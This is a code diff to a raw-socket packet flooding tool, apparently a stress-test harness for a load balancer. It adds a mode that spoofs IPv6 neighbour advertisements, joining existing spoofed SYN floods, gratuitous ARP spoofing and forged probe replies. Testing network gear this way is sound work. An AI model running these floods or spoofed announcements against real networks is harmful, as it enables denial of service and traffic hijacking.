@@ -8,6 +8,8 @@ usage: flood.py IFACE DST_MAC KIND [options]
         echo       ICMP echo requests to --dst (a VIP: punted to the control core)
         syn        TCP SYNs to --dst:--port from random (spoofed) sources in 203.0.0.0/8
         garp       gratuitous ARP: --src is at --mac (a spoofed announcement)
+        na         IPv6 neighbour advertisements: --src (IPv6) is at --mac, unsolicited to all
+                   nodes and falsely "solicited" to the LB (spoofed, as garp)
         echo-reply echo replies from --src to --dst sweeping every ident (forged probe answers)
         syn-ack    SYN-ACKs from --src:--port to --dst, sweeping destination ports 33000-60999
         big        one --size-byte UDP datagram (DF) to --dst:--port per --every frames of the
@@ -59,6 +61,14 @@ def udp(src, dst, sport, dport, data):
     return ipv4(src, dst, 17, l4(src, dst, 17, seg, 6))
 
 
+def na(target: bytes, claim: bytes, dst: bytes, solicited: bool) -> bytes:
+    flags = 0x20 | (0x40 if solicited else 0)  # override, and solicited if claimed
+    m = bytearray(struct.pack("!BBHB3x16s", 136, 0, 0, flags, target) + struct.pack("!BB6s", 2, 1, claim))
+    ph = target + dst + struct.pack("!I3xB", len(m), 58)
+    struct.pack_into("!H", m, 2, csum(ph + bytes(m)))
+    return struct.pack("!IHBB16s16s", 6 << 28, len(m), 58, 255, target, dst) + bytes(m)
+
+
 def tcp(src, dst, sport, dport, flags, seq=0, ack=0):
     seg = bytearray(struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 64240, 0, 0))
     return ipv4(src, dst, 6, l4(src, dst, 6, seg, 16))
@@ -89,7 +99,9 @@ def main():
     s.bind((o.iface, 0))
     me = s.getsockname()[4]
     dst_mac = mac(o.dst_mac)
-    src, dst = ip(o.src), ip(o.dst)
+    six = ":" in o.src or ":" in o.dst
+    src, dst = (socket.inet_pton(socket.AF_INET6, o.src), socket.inet_pton(socket.AF_INET6, o.dst)) if six \
+        else (ip(o.src), ip(o.dst))
     eth = lambda payload, ethertype=0x0800, d=dst_mac, m=me: d + m + struct.pack("!H", ethertype) + payload
 
     # A few thousand frames built up front, cycled: the loop itself only sends.
@@ -107,6 +119,11 @@ def main():
         arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, claim, src, b"\0" * 6, src)
         reply = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, claim, src, dst_mac, dst)
         frames = [eth(arp, 0x0806, b"\xff" * 6, claim if o.mac else me), eth(reply, 0x0806, dst_mac, claim if o.mac else me)]
+    elif o.kind == "na":
+        claim = mac(o.mac) if o.mac else me
+        all_nodes = socket.inet_pton(socket.AF_INET6, "ff02::1")
+        frames = [eth(na(src, claim, all_nodes, False), 0x86DD, b"\x33\x33\0\0\0\x01", claim),
+                  eth(na(src, claim, dst, True), 0x86DD, dst_mac, claim)]
     elif o.kind == "echo-reply":
         m = mac(o.mac) if o.mac else me
         frames = [eth(icmp(src, dst, 0, i, seq), m=m) for i in range(65536) for seq in (1,)]
